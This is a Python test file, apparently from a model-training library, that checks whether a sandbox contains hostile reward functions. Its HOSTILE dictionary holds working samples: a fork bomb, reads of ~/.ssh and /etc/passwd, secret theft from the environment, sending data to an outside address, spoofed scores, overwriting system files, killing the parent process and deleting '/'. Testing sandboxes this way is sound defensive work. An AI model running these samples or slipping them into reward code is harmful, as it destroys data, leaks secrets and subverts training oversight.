"""Rewards that mean harm, each asked for scores as a training asks: what it got, changed and left.

Each would pay 1.0 where it got what it wanted. Nothing outside may change, no process may stay, nobody may be paid.
"""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

from training.rewards import RewardError, named

SECRET = "a key that nobody may read"
IN_ENVIRONMENT = "TUNESMITH_BENCH_SECRET"
GONE_WITHIN_S = 5.0
HOSTILE = {
    "a fork bomb": """
import os
while True:
    os.fork()
""",
    "an endless loop": """
def reward(completions):
    while True:
        pass
""",
    "a child that stays": """
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(3600)
def reward(completions):
    return [0.0, 0.0]
""",
    "reads the home": """
from pathlib import Path
def reward(completions):
    wanted = ("HOME", "HOME/key", "~/.ssh", "~/.bashrc", "/etc/passwd", "/proc/PARENT/environ", "/proc/1/environ")
    return [float(any(Path(place).expanduser().exists() for place in wanted))] * 2
""",
    "reads the environment": """
import os
def reward(completions):
    return [float("TUNESMITH_BENCH_SECRET" in os.environ)] * 2
""",
    "takes ten gigabytes": """
def reward(completions):
    return [float(len(bytearray(10 * 2**30)) > 0)] * 2
""",
    "fills the disk": """
def reward(completions):
    for number in range(10000):
        with open(f"big-{number}", "wb") as file:
            file.write(b"x" * 2**23)
    return [1.0, 1.0]
""",
    "calls out": """
import socket
def reward(completions):
    reached = 0.0
    for place in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
        try:
            with socket.create_connection(place, timeout=2) as line:
                line.send(b"a row of the person's data")
            reached = 1.0
        except OSError:
            pass
    return [reached, reached]
""",
    "prints a score and leaves": """
import os, sys
print("[1.0, 1.0]", flush=True)
for number in range(40):
    try:
        os.write(number, b'{"value": [1.0, 1.0]}')
    except OSError:
        pass
os._exit(0)
""",
    "writes into the run": """
def reward(completions):
    paid = 0.0
    for place in ("HOME/../status.json", "HOME/../mine.py", "HOME/key", "/usr/bin/python3", "/etc/passwd"):
        try:
            with open(place, "w") as file:
                file.write("mine")
            paid = 1.0
        except OSError:
            pass
    return [paid, paid]
""",
    "kills its parent": """
import os, signal
def reward(completions):
    for number in (PARENT, os.getppid(), -1):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    return [0.0, 0.0]
""",
    "leaves at once": "import os\nos._exit(0)\n",
    "deletes itself and what it finds": """
import os, shutil
def reward(completions):
    for place in ("HOME", "HOME/..", os.getcwd(), "/usr/lib/python3", "/"):
        shutil.rmtree(place, ignore_errors=True)
    return [0.0, 0.0]
""",
    "returns a billion scores": "def reward(completions):\n    return [0.0] * 10**9\n",
}


def contained(name: str, source: str, folder: Path) -> bool:
    """Ask a hostile reward for scores as a training does; say whether nobody was paid and nothing was touched or left."""
    home = folder / "home"
    home.mkdir(exist_ok=True)
    secret, file = home / "key", folder / "mine.py"
    secret.write_text(SECRET)
    running = _cells()
    with listening() as (port, heard):
        file.write_text(source.replace("HOME", str(home)).replace("PORT", str(port)).replace("PARENT", str(os.getpid())))  # fmt: skip
        before, began = _files(folder), time.monotonic()
        scores, said = _asked(file)
        took_s = time.monotonic() - began
        reached = bool(heard)
    left = _outlived(running)
    whole = _files(folder) == before
    paid = any(score > 0 for score in scores)
    right = whole and not paid and not left and not reached
    faults = [word for word, so in (("files changed", not whole), ("paid", paid), ("processes left", bool(left)), ("reached the network", reached)) if so]  # fmt: skip
    print(
        f"{'ok ' if right else 'NOT'} {name} ({took_s:.1f} s): {', '.join(faults) or 'contained'}"
    )
    print(f"      {said or f'scores {scores}'}", flush=True)
    return right


def _asked(file: Path) -> tuple[list[float], str]:
    try:
        reward = named(f"python:{file.name}", folder=file.parent)
        return reward(["an answer", "another"], answer=["right", "right"]), ""
    except RewardError as error:
        return [], str(error)


def _files(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def _cells() -> set[str]:
    """Number the processes of sandboxes."""
    found = set()
    for path in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if b"cell.py" in (path / "cmdline").read_bytes():
                found.add(path.name)
    return found


def _outlived(before: set[str]) -> set[str]:
    """Number those that were not there before and are not gone in a while."""
    left = _cells() - before
    until = time.monotonic() + GONE_WITHIN_S
    while left and time.monotonic() < until:
        time.sleep(0.2)
        left &= _cells()
    return left


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """Listen on a port of this machine; give it, and what was heard."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        ended = threading.Event()

        def listen() -> None:
            while not ended.is_set():
                with suppress(TimeoutError):
                    heard.append(server.accept()[0].recv(99))

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield server.getsockname()[1], heard
        finally:
            ended.set()
            thread.join()
